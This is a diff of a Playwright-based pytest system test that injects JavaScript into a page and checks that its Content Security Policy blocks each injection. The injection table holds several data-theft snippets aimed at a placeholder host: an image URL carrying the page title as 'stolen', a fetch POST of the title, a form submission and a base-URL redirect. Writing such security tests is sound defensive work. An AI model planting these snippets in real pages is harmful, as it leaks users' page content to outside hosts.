@@ -11,10 +11,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, Page
 
 from tests.system.browser import Visit
-from tests.system.page_parts import suggestion
 from tests.system.server import Server
 
 NO_PAGE = "<!doctype html><title>stranger</title><p id=out>waiting</p>"
@@ -23,44 +22,73 @@ window.violations = [];
 document.addEventListener("securitypolicyviolation",
   event => window.violations.push(event.effectiveDirective));
 """
-INJECTIONS = {
-    "script-src-elem": """
+INJECTIONS: dict[str, tuple[str, str]] = {
+    "a script": (
+        "require-trusted-types-for",
+        """
       const script = document.createElement("script");
       script.append("window.ran = true");
       document.body.append(script);
     """,
-    "script-src-attr": """
+    ),
+    "a script of another host": (
+        "require-trusted-types-for",
+        """
+      const script = document.createElement("script");
+      script.src = "STRANGER/script.js";
+      document.body.append(script);
+    """,
+    ),
+    "a handler of an event": (
+        "require-trusted-types-for",
+        """
       const image = document.createElement("img");
       image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
       image.setAttribute("onload", "window.ran = true");
       document.body.append(image);
     """,
-    "style-src-elem": """
+    ),
+    "a style": (
+        "style-src-elem",
+        """
       const style = document.createElement("style");
       style.append("body { display: none }");
       document.body.append(style);
     """,
-    "img-src": """
+    ),
+    "an image of another host": (
+        "img-src",
+        """
       const image = document.createElement("img");
       image.src = "STRANGER/?stolen=" + encodeURIComponent(document.title);
       document.body.append(image);
     """,
-    "connect-src": """
+    ),
+    "a request to another host": (
+        "connect-src",
+        """
       fetch("STRANGER/", { method: "POST", body: document.title }).catch(() => {});
     """,
-    "form-action": """
+    ),
+    "a form of another host": (
+        "form-action",
+        """
       const form = document.createElement("form");
       form.action = "STRANGER/";
       document.body.append(form);
       form.submit();
     """,
-    "base-uri": """
+    ),
+    "another base of the addresses": (
+        "base-uri",
+        """
       const base = document.createElement("base");
       base.href = "STRANGER/";
       document.head.append(base);
     """,
+    ),
 }
-"""Ways to run a script, to hide the page or to send its content away, by the rule against each."""
+"""Ways to run a script, to hide the page or to send its content away, with the rule against it."""
 ASK = """async url => {
   try {
     const answer = await fetch(url, {
@@ -127,20 +155,20 @@ def opened(browser: Browser, url: str) -> Page:
     return page
 
 
-@pytest.mark.parametrize("rule", INJECTIONS)
+@pytest.mark.parametrize("kind", INJECTIONS)
 def test_what_was_injected_does_not_work(
-    browser: Browser, server: Server, stranger: Stranger, rule: str
+    browser: Browser, server: Server, stranger: Stranger, kind: str
 ) -> None:
+    rule, script = INJECTIONS[kind]
     page = opened(browser, server.url)
     stranger.requests.clear()
-    page.evaluate(f"() => {{ {INJECTIONS[rule].replace('STRANGER', stranger.url)} }}")
+    page.evaluate(f"() => {{ try {{ {script.replace('STRANGER', stranger.url)} }} catch {{}} }}")
     page.wait_for_function("rule => window.violations.includes(rule)", arg=rule, timeout=120_000)
     assert page.evaluate("window.ran") is None
     assert page.evaluate("document.baseURI").startswith(server.url)
+    # The page's own requests still go to its server.
+    assert page.evaluate(ASK, "predict") == "python"
     assert stranger.requests == []
-    # The page itself still works.
-    page.locator("#title").fill("How do I merge two dictionaries in Python?")
-    expect(suggestion(page, "python")).to_be_visible(timeout=120_000)
     page.context.close()
 
 
